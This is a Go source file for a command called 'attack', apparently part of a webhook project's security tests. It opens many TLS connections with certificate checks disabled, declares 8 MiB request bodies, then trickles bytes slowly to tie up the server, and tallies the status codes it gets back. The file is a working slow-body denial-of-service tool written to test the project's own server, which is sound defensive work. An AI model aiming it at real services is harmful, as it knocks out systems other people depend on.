// Command attack is round 3, finding 1 of docs/security.md, run from a pod
// on the real node (host/tests/real_cluster/node.rs): n TLS connections to
// the webhook, each a POST declaring an 8 MiB body, `sent` bytes of it
// written at once and then a byte every 3 s, until serve answers or `for`
// is over. The certificate is not checked: an attacker does not care.
//
// It prints one line per connection ("status 408 after 10.0s"; "refused":
// the connection or its TLS handshake was refused; "none": no answer by the
// end) and, last, "statuses" with each outcome and how many got it, e.g.
// "statuses 404=60 refused=4".
// Only the Go standard library: it is built static, into an image of its
// own (e2e-tests/cluster/node.sh).
package main

import (
	"bufio"
	"crypto/tls"
	"flag"
	"fmt"
	"net"
	"net/url"
	"os"
	"sort"
	"strings"
	"sync"
	"time"
)

const declared = 8 << 20

// Outcomes that are not an HTTP status.
const (
	refused = -1 // the connection or its TLS handshake was refused
	none    = 0  // no answer by the end
)

func main() {
	target := flag.String("url", "", "https://HOST:PORT/PATH of the webhook")
	n := flag.Int("n", 64, "connections")
	sent := flag.Int("sent", 6<<20, "bytes of each body written at once")
	limit := flag.Duration("for", 30*time.Second, "how long to keep trickling")
	flag.Parse()
	u, err := url.Parse(*target)
	if err != nil || u.Scheme != "https" {
		fmt.Fprintln(os.Stderr, "attack: -url https://HOST:PORT/PATH")
		os.Exit(2)
	}
	stop := time.Now().Add(*limit)
	statuses := make([]int, *n)
	var wg sync.WaitGroup
	for i := 0; i < *n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			statuses[i] = one(u, *sent, stop)
		}(i)
	}
	wg.Wait()
	counts := map[int]int{}
	for _, s := range statuses {
		counts[s]++
	}
	keys := make([]int, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Ints(keys)
	parts := make([]string, 0, len(keys))
	for _, k := range keys {
		name := fmt.Sprint(k)
		switch k {
		case refused:
			name = "refused"
		case none:
			name = "none"
		}
		parts = append(parts, fmt.Sprintf("%s=%d", name, counts[k]))
	}
	fmt.Printf("statuses %s\n", strings.Join(parts, " "))
}

// one connection's attack: the status serve answered with, 0 for none.
func one(u *url.URL, sent int, stop time.Time) int {
	started := time.Now()
	dialer := &net.Dialer{Timeout: 10 * time.Second}
	conn, err := tls.DialWithDialer(dialer, "tcp", u.Host, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
	if err != nil {
		fmt.Printf("refused after %.1fs: %v\n", time.Since(started).Seconds(), err)
		return refused
	}
	defer conn.Close()
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", u.Path, u.Hostname(), declared)
	answered := make(chan int, 1)
	go func() {
		line, err := bufio.NewReader(conn).ReadString('\n')
		status := refused
		if err == nil {
			status = none
			fmt.Sscanf(line, "HTTP/1.1 %d", &status)
		}
		answered <- status
	}()
	write := func(b []byte) bool {
		_ = conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
		_, err := conn.Write(b)
		return err == nil
	}
	if write([]byte(head)) {
		chunk := make([]byte, 64<<10)
		for i := range chunk {
			chunk[i] = ' '
		}
		for left := sent; left > 0; {
			k := min(left, len(chunk))
			if !write(chunk[:k]) {
				break
			}
			left -= k
		}
	}
	tick := time.NewTicker(3 * time.Second)
	defer tick.Stop()
	for {
		select {
		case status := <-answered:
			fmt.Printf("status %d after %.1fs\n", status, time.Since(started).Seconds())
			return status
		case <-tick.C:
			if time.Now().After(stop) {
				fmt.Printf("none after %.1fs: no answer\n", time.Since(started).Seconds())
				return none
			}
			write([]byte(" "))
		}
	}
}
